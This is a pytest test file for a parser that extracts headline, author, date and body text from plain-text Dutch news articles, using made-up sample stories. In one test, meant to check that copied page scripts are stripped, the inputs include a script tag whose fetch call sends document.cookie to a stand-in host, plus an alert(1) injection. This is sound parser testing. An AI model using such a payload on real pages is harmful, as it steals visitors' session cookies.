"""Plain text that is not an ordinary article. Ordinary ones are in `test_shapes.py`."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from briefing.article.formats.plain import read_plain
from briefing.errors import NoArticleError, WithheldError


@pytest.mark.parametrize(
    "text",
    [
        "",
        " \n\n ",
        "***\n\n---",
        " date 2023-03",
        "\ufeff",
        "Facebook\nTwitter",
        "12.30",
        "Lees ook\n\nDeel dit artikel",
    ],
)
def test_text_without_words_is_refused(text):
    with pytest.raises(NoArticleError):
        read_plain(text, source="-")


def test_the_source_is_kept():
    assert read_plain("De brug is dicht.", source="brug.txt").source == "brug.txt"


def test_a_first_line_with_an_invalid_date_gives_no_date():
    article = read_plain(" date 2023-13 De brug is dicht.", source="-")
    assert article.published is None


LINES = """
Brug dicht;De brug is dicht.;Lees ook;Lees ook: x;- punt;1. punt;Door An Maes;3 mei 2022; date 2023-02 ;Utrecht
Foto: ANP;AMSTERDAM (ANP) - De brug is dicht.;Meer uit Regio;;***;?;“Wat?”;(ANP);12.05 uur
"""
TEXTS = st.lists(st.sampled_from(LINES.replace("\n", ";").split(";")), max_size=20).map("\n".join)


@given(st.one_of(TEXTS, st.text(max_size=300)))
def test_any_text_is_an_article_or_none(text):
    try:
        article = read_plain(text, source="-")
    except (NoArticleError, WithheldError):
        return
    assert article.headline or article.blocks
    assert all(block.text and block.text == block.text.strip() for block in article.blocks)


FIRST = "De brug bij Spijk is dinsdag afgesloten na een aanvaring met een vrachtschip. Niemand raakte gewond."


@pytest.mark.parametrize(
    "sentence",
    [
        "Opzeggen kan nog tot 1 december, zegt de toezichthouder.",
        "Gratis toegang tot het zwembad vervalt bij twee ketens.",
        "Pagina 12 van het contract bleek onleesbaar.",
        "Hoe vond je dat?",
    ],
)
def test_a_sentence_that_only_sounds_like_one_of_the_page_s_stays(sentence):
    article = read_plain(f"Brug dicht\n\n{FIRST}\n\n{sentence}\n\n{FIRST}", source="-")
    assert sentence in [block.text for block in article.blocks]


def test_results_at_the_end_are_not_links():
    results = ["FC Emmen - FC Groningen 2-1", "Heracles - De Graafschap 0-0"]
    article = read_plain("\n".join(["Emmen wint", FIRST, FIRST, "Uitslagen", *results]), source="-")
    assert [block.text for block in article.blocks[-2:]] == results
    assert article.blocks[-3].kind == "crosshead"


def test_numbered_questions_are_crossheads():
    article = read_plain(f"Vragen over de brug\n\n{FIRST}\n\n1. Wie heeft er last van?\n{FIRST}", source="-")
    assert [(block.kind, block.text) for block in article.blocks][1] == ("crosshead", "1. Wie heeft er last van?")


def test_a_dateline_gives_the_date():
    article = read_plain(f"Brug dicht\n\nTiel, 2 november 2026 – {FIRST}", source="-")
    assert (article.place, article.published, article.blocks[0].text) == ("Tiel", "2026-11-02", FIRST)


def test_a_press_release_ends_at_its_end():
    lines = ["Persbericht – voor directe publicatie", "Brug dicht", "Spijk, 2 november 2026", FIRST, FIRST, "###"]
    article = read_plain("\n\n".join([*lines, "Perscontact: An Maes", "Over ons: wij bouwen bruggen."]), source="-")
    assert (article.headline, article.published) == ("Brug dicht", "2026-11-02")
    assert [block.text for block in article.blocks] == [FIRST, FIRST]


def test_a_single_link_below_the_text_is_not_spoken():
    article = read_plain(f"Brug dicht\n{FIRST}\n{FIRST}\nLees ook\nSchip vaart tegen brug bij Kampen", source="-")
    assert [block.text for block in article.blocks] == [FIRST, FIRST]


def test_a_genre_and_a_name_above_the_headline_give_genre_and_author():
    article = read_plain(f"Interview | An Maes, brugwachter\n‘Ik ben nooit alleen’\n{FIRST}", source="-")
    assert article.headline == "‘Ik ben nooit alleen’"


@pytest.mark.parametrize(
    "paragraph",
    [
        "<script>alert(1)</script>De brug gaat vrijdag weer open.",
        "Hij zei: <SCRIPT>fetch('https://a.example/?c=' + document.cookie)</SCRIPT>het is gedaan. De brug bleef dicht.",
        "De provincie <script>if (a < b) { track() }</script>belooft beterschap, en een nieuwe <b>slagboom</b>.",
    ],
)
@pytest.mark.parametrize("place", [1, 2, 3])
def test_the_text_around_a_copied_script_stays(paragraph, place):
    blocks = ["Brug dicht", FIRST, FIRST]
    blocks.insert(place, paragraph)
    article = read_plain("\n\n".join(blocks), source="-")
    before, _, after = re.split("(?is)(<script>.*</script>)", paragraph)
    assert f"{before}{after}" in [block.text for block in article.blocks]
    assert [left.reason for left in article.left_out] == ["script of a page"]


@pytest.mark.parametrize(
    "entry",
    [
        "09.15 uur\nSchip vaart tegen brug\n\nNiemand raakte gewond.",
        "09.15 uur\nSchip vaart tegen brug\nNiemand raakte gewond.",
        "09.15 uur – Schip vaart tegen brug\n\nNiemand raakte gewond.",
        "09.15 uur Schip vaart tegen brug\nNiemand raakte gewond.",
    ],
)
def test_the_time_of_an_entry_with_a_title_is_said_before_its_text(entry: str) -> None:
    article = read_plain(f"Brug bij Spijk dicht\n\n10.42 uur\nDe brug is weer open.\n\n{entry}", source="-")
    assert [block.text for block in article.blocks] == [
        "10.42 uur: De brug is weer open.",
        "Schip vaart tegen brug",
        "09.15 uur: Niemand raakte gewond.",
    ]
    assert article.left_out == ()


BRIDGE = (
    "De brug bij Wolfsveen draait weer met de hand. De motor stond al drie maanden stil, en de schippers klaagden.",
    "De brugwachter doet er acht minuten over. Hij is er volgens zijn vrouw in een week twee kilo van afgevallen.",
)


def test_the_publisher_of_a_print_is_not_the_author():
    stamp = "14-10-2026 11:20     Wolfsveens Weekblad | Print"
    article = read_plain("\n\n".join([stamp, "Brug draait met de hand", "Ruud Spaan", *BRIDGE]), source="-")
    assert (article.headline, article.author) == ("Brug draait met de hand", "Ruud Spaan")


def test_the_day_below_the_writer_s_name_is_the_article_s_date():
    signed = "Marit Hoogt\n20 november 2026, 09:14 • Bijgewerkt: 10:02"
    article = read_plain("\n\n".join(["Brug draait met de hand", signed, *BRIDGE]), source="-")
    assert (article.author, article.published) == ("Marit Hoogt", "2026-11-20")


def test_the_anchor_of_a_comment_is_not_spoken():
    article = read_plain("\n\n".join(["Brug draait met de hand", BRIDGE[0] + " [LP1]", BRIDGE[1]]), source="-")
    assert [block.text for block in article.blocks] == list(BRIDGE)


def test_fields_above_a_text_that_end_with_a_line_of_marks_describe_it():
    fields = "article_id: 12\nauthor: An Maes\npub_date: 2026-11-17T06:00:00+01:00\n---"
    article = read_plain("\n\n".join([fields, "Brug draait met de hand", *BRIDGE]), source="-")
    assert (article.headline, article.author, article.published) == ("Brug draait met de hand", "An Maes", "2026-11-17")
    assert [block.text for block in article.blocks] == list(BRIDGE)


def test_a_byline_counts_before_a_name_in_the_menu():
    article = read_plain(
        "\n\n".join(["Menu Zoeken", "FC Wolfsveen", "Brug draait met de hand", "door Ruud Spaan", *BRIDGE]), source="-"
    )
    assert article.author == "Ruud Spaan"


def test_the_frame_of_a_web_archive_gives_neither_date_nor_author():
    frame = "14 captures\n18 mrt 2009 – 2 feb 2021\nFEB  MRT  APR\n2008  18  2010\nAbout this capture"
    signed = "door Ruud Spaan\ndinsdag 17 maart 2009 | 11:26"
    article = read_plain("\n\n".join([frame, "Brug draait met de hand", signed, *BRIDGE]), source="-")
    assert (article.author, article.published) == ("Ruud Spaan", "2009-03-17")


def test_a_line_above_a_credit_that_is_not_a_sentence_is_its_caption():
    article = read_plain(
        "\n\n".join(["Brug draait met de hand", *BRIDGE, "De brug in Wolfsveen.\nFOTO AN MAES"]), source="-"
    )
    assert [block.text for block in article.blocks] == list(BRIDGE)


def test_the_title_of_a_thread_is_its_headline():
    thread = "Post\nBas Wolf\n@baswolf\n1/ 🧵\nReconstructie: hoe de brug bij Wolfsveen stil kwam te staan"
    article = read_plain(
        "\n\n".join([thread, BRIDGE[0], f"2/\n{BRIDGE[1]}", "3/3\nEn zo draait zij weer."]), source="-"
    )
    assert article.headline == "Reconstructie: hoe de brug bij Wolfsveen stil kwam te staan"


def test_the_last_post_of_a_thread_stays_above_its_counts():
    last = f"3/3\n{BRIDGE[1]}\n08:22 · 13 nov. 2026\n32 reposts  7 citaten"
    article = read_plain(
        "\n\n".join(["Brug draait met de hand", f"1/3\n{BRIDGE[0]}", "2/3\nHij lacht erom.", last]), source="-"
    )
    assert BRIDGE[1] in [block.text for block in article.blocks]


@pytest.mark.parametrize(
    "line",
    [
        "Update: het is een jongen, en hij heet Kas. Zijn vader is schipper.",
        "Contact: dat is volgens de brugwachter wat er ontbrak in het dorp.",
        "De uitslag: 1. Noor Bos, Tiel; 2. Sem Wit, Ede; 3. Fien Roos, Zutphen.",
    ],
)
def test_a_sentence_that_opens_with_a_label_stays(line: str):
    article = read_plain("\n\n".join(["Brug draait met de hand", BRIDGE[0], line, BRIDGE[1]]), source="-")
    assert line in [block.text for block in article.blocks]


@pytest.mark.parametrize(
    "line", ["Update: 14.05 uur", "Update 14.05 uur: reactie toegevoegd", "Contact: An Maes, 010-1234567"]
)
def test_a_label_with_a_clock_time_or_a_number_is_left_out(line: str):
    article = read_plain("\n\n".join(["Brug draait met de hand", BRIDGE[0], line, BRIDGE[1]]), source="-")
    assert line not in [block.text for block in article.blocks]


def test_the_last_sentences_above_the_foot_of_the_page_stay():
    last = 'Het duurde vier minuten. Niemand klaagde.\n"Ik had geen haast", lacht hij.'
    foot = "Speel met mate\nRij jij ook op de brug? Stuur ons een bericht op 0499 00 00 00"
    article = read_plain("\n\n".join(["Brug draait met de hand", *BRIDGE, f"{last}\n{foot}"]), source="-")
    assert [block.text for block in article.blocks][2:] == last.splitlines()


def test_a_title_in_capitals_is_not_a_name():
    article = read_plain("\n\n".join(["ZES GEWONDEN BIJ ONGELUK MET VEERPONT", *BRIDGE]), source="-")
    assert (article.headline, article.author) == ("ZES GEWONDEN BIJ ONGELUK MET VEERPONT", None)


def test_the_writer_s_biography_is_left_out_and_what_is_beside_it_is_judged_by_itself():
    life = "Ruud Spaan is schrijver en woont in Wolfsveen.\nReageer op deze column: brug@voorbeeld.nl"
    article = read_plain("\n\n".join(["Brug draait met de hand", "door Ruud Spaan", *BRIDGE, life]), source="-")
    assert [block.text for block in article.blocks] == list(BRIDGE)


@pytest.mark.parametrize(
    "line",
    [
        "U hebt 30% van dit artikel gelezen.",
        "Nog één gratis artikel te gaan",
        "GESPROKEN WOORD GELDT - zaterdag 20.05 uur",
        "[[STREAMER]] 'Hij valt er kilo’s van af'",
    ],
)
def test_additions_by_meters_desks_and_speech_programs_are_left_out(line: str):
    article = read_plain("\n\n".join(["Brug draait met de hand", BRIDGE[0], line, BRIDGE[1]]), source="-")
    assert [block.text for block in article.blocks] == list(BRIDGE)


def test_a_line_in_quotation_marks_that_repeats_another_is_a_pull_quote():
    quote = "‘Daar had niemand op gerekend in het dorp’"
    said = "Daar had niemand op gerekend in het dorp, en ik ook niet. De bakker had al besteld."
    text = "\n\n".join(
        ["Veerpont vaart weer", "De veerpont vaart sinds maandag weer.", said, quote, "Zij gaat morgen."]
    )
    article = read_plain(text, source="-")
    assert quote not in [block.text for block in article.blocks]
    assert (quote, "said before") in [(left.text, left.reason) for left in article.left_out]


def test_a_line_in_quotation_marks_that_repeats_nothing_stays():
    quote = "‘Daar had niemand op gerekend in het dorp.’"
    text = "\n\n".join(["Veerpont vaart weer", "De veerpont vaart sinds maandag weer.", quote, "Zij zucht, en gaat."])
    assert quote in [block.text for block in read_plain(text, source="-").blocks]


def test_the_dateline_may_be_below_a_second_headline():
    first = "De veerpont vaart sinds maandag weer. Drie maanden lag het schip stil."
    text = (
        f"Veerpont vaart weer na drie maanden\nKetting vervangen in droogdok\n\nArnhem, 4 mei 2026 – {first}\n\n{first}"
    )
    article = read_plain(text, source="-")
    assert (article.headline, article.published) == ("Veerpont vaart weer na drie maanden", "2026-05-04")
    assert first in [block.text for block in article.blocks]


def test_the_first_question_of_an_interview_is_not_the_headline():
    turns = ["V: Waarom stopt u?", "A: Het is mooi geweest. Ik ga lezen.", "V: En dan?", "A: Dan zien we wel. Echt."]
    article = read_plain("\n\n".join(turns), source="-")
    assert article.headline is None
    assert [block.text for block in article.blocks] == turns


@pytest.mark.parametrize("line", ["[code RZ-1411-07.indd]", "[ alleen web ]", "[stuk voor zaterdag, 40 regels]"])
def test_a_line_in_square_brackets_above_the_text_is_a_note_of_the_desk(line: str):
    first = "De veerpont vaart sinds maandag weer. Drie maanden lag het schip stil."
    article = read_plain(f"{line}\nVeerpont vaart weer na drie maanden\n\n{first}\n\n{first}", source="-")
    assert article.headline == "Veerpont vaart weer na drie maanden"
    assert line.strip() in [left.text for left in article.left_out]


def test_a_sentence_in_square_brackets_stays():
    sentence = "[De burgemeester wilde daar in de vergadering niet op antwoorden.]"
    text = "\n\n".join(
        ["Veerpont vaart weer", "De veerpont vaart sinds maandag weer.", sentence, "Zij zucht, en gaat."]
    )
    assert sentence in [block.text for block in read_plain(text, source="-").blocks]


def test_wrapped_paragraphs_right_below_a_link_to_another_article_stay():
    lines = [
        "De gemeenteraad van Urk heeft dinsdagavond na een lang",
        "debat ingestemd met de bouw van een nieuwe haven. Die kost",
        "12 miljoen euro.",
        "Wethouder An Maes zei na afloop dat zij opgelucht is. Zij",
        "wil in mei beginnen, als het weer meezit.",
    ]
    article = read_plain("\n".join(["Lees ook: Kou in Ede", *lines]), source="-")
    assert [block.text for block in article.blocks] == [" ".join(lines[:3]), " ".join(lines[3:])]


def test_the_day_of_a_post_between_the_paragraphs_is_not_that_of_the_article() -> None:
    post = "Wat een drukte! pic.twitter.com/aBc12\n— An Prins (@anprins) November 3, 2026"
    text = (
        "De brug bij Spijk is dinsdag afgesloten. Niemand raakte gewond.",
        "De schipper zag het licht niet. Hij sliep.",
    )
    article = read_plain("\n\n".join(["Brug bij Spijk dicht na aanvaring", text[0], post, text[1]]), source="-")
    assert article.published is None


def test_a_remark_of_the_desk_below_the_text_of_a_form_is_left_out() -> None:
    text = (
        "Kop: De bakker sluit, het dorp rouwt\nIntro: Na zestig jaar gaat in Lies de laatste oven uit.\n\n"
        "Gerrit Nanninga doet om half vijf de deur open, zoals hij dat sinds zijn zestiende doet. Dat went nooit.\n\n"
        "De gemeente zoekt sinds het voorjaar naar een bedrijf dat de winkel wil overnemen. Dat lukt niet.\n\n"
        "Nog doen: leeftijd zoon nakijken"
    )
    article = read_plain(text, source="-")
    assert [block.text[:6] for block in article.blocks] == ["Na zes", "Gerrit", "De gem"]
    assert "Nog doen: leeftijd zoon nakijken" in [left.text for left in article.left_out]


@pytest.mark.parametrize("gap", ["\n", "\n\n"])
def test_the_key_figures_above_a_release_are_left_out_and_those_in_its_text_stay(gap: str) -> None:
    lead = (
        "Polderzuivel heeft in het eerste halfjaar 4 procent meer omgezet. De groei kwam bijna helemaal van geitenkaas."
    )
    text = "De winst daalde licht, omdat de melk duurder werd. Het bedrijf rekent voor dit jaar op een hogere omzet."
    figures = ["Omzet: 88,1 miljoen euro (+4,0%)", "Winst: 6,2 miljoen euro (-1,1%)", "Dividend: 0,40 euro"]
    boxed = ["Melk: 12 miljoen liter", "Kaas: 900.000 kilo", "Geiten: 31.000"]
    lines = [["Polderzuivel groeit, vooral met geitenkaas", *figures], [lead], boxed, [text], [lead.upper()]]
    article = read_plain(gap.join("\n".join(block) for block in lines), source="-")
    told = [block.text for block in article.blocks]
    assert not set(told) & set(figures)
    assert set(boxed) <= set(told)


_TOLD = (
    "Buren die elkaar helpen besparen de gemeente vier miljoen euro per jaar. Dat staat in een rapport van vandaag.\n\n"
    "De onderzoekers volgden 640 huishoudens. In straten met een actieve buurt werd minder hulp aangevraagd dan elders."
)


@pytest.mark.parametrize("opening", ["PERSBERICHT - ", ""])
def test_the_day_on_which_an_embargo_ends_is_the_article_s_where_no_other_is_told(opening: str) -> None:
    line = f"{opening}EMBARGO TOT DONDERDAG 27 FEBRUARI 2020, 06.00 UUR"
    assert read_plain(f"Buren helpen stad\n\n{line}\n\n{_TOLD}", source="-").published == "2020-02-27"


@pytest.mark.parametrize("label", ["(Advertentie)", "Ingezonden mededeling", "ADVERTENTIE"])
def test_an_advertisement_below_the_text_has_no_writer(label: str) -> None:
    article = read_plain(f"Buren helpen stad\n\n{_TOLD}\n\n{label}\nRIJWIELEN VAN HUISMAN\nRIJDEN EEUWIG", source="-")
    assert article.author is None
    assert [block.text for block in article.blocks] == _TOLD.split("\n\n")
